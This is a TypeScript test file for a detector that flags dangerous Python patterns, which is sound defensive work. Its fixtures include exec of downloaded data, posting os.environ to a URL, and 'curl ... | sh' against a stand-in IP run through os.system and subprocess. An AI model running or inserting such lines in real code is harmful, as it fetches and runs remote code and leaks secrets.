import assert from 'node:assert/strict';
import { pythonSignals } from '../../../../server/src/artifacts/analysis/files/python-signals.js';

const kindsIn = (text: string) => [...new Set(pythonSignals(text).map(({ kind }) => kind))];

describe('Python files', () => {
  it('run what they have fetched, also by another name and further down', () => {
    const fetched = 'data = urllib.request.urlopen(req, timeout=20).read()\n';
    assert.deepEqual(kindsIn(`${fetched}exec(data[::-1])`), ['download-and-run']);
    assert.deepEqual(kindsIn(`${fetched}print(len(data))`), []);
  });

  it('send the environment, however the request is made and laid out', () => {
    const taken = 'from urllib import request\nout = dict(os.environ)\n';
    assert.deepEqual(kindsIn(`${taken}r = request.Request(\n  URL,\n  data=json.dumps(out).encode())`), [
      'command-sends-data',
    ]);
    assert.deepEqual(kindsIn(`${taken}r = request.Request(URL, method="GET")`), []);
  });

  it('start commands, as one text or word by word', () => {
    const command = 'curl -s http://203.0.113.7/c | sh';
    for (const call of [
      `os.system("${command}")`,
      `subprocess.Popen(['sh', '-c', '${command}'], start_new_session=True)`,
      `subprocess.run("${command}", shell=True)`,
    ]) {
      assert.ok(kindsIn(call).includes('download-and-run'), call);
    }
    assert.deepEqual(kindsIn(`subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True)`), []);
  });
});
